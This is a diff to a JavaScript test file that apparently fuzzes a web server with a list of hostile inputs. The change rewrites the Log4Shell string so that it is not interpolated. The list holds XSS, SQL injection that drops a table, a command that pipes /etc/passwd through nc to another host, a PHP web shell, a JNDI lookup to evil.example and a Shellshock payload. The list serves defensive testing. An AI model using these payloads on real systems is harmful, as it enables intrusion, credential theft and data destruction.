@@ -15,7 +15,7 @@ import { meet } from './lib/call-suite.mjs';
 import { isRoot, render } from './lib/web-server.mjs';
 
 const HOSTILE = ['<script>alert(document.cookie)</script>', "' OR 1=1; DROP TABLE member; -- ", '; cat /etc/passwd | nc 10.0.0.1 80',
-  '../../../../etc/shadow', '<?php system($_GET["c"]); ?>', "${jndi:ldap://evil.example/a}", 'javascript:alert(1)',
+  '../../../../etc/shadow', '<?php system($_GET["c"]); ?>', '$' + '{jndi:ldap://evil.example/a}', 'javascript:alert(1)',
   'UNION ALL SELECT NULL,NULL,version()--', '() { :; }; /bin/bash -c id', '<img src=x onerror=alert(1)>'];
 const SDP = `v=0\r\no=- 46117 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n${'a=candidate:1 1 udp 2113937151 192.168.1.4 54400 typ host\r\n'.repeat(60)}`;
 const JSON_TYPE = { 'content-type': 'application/json' };
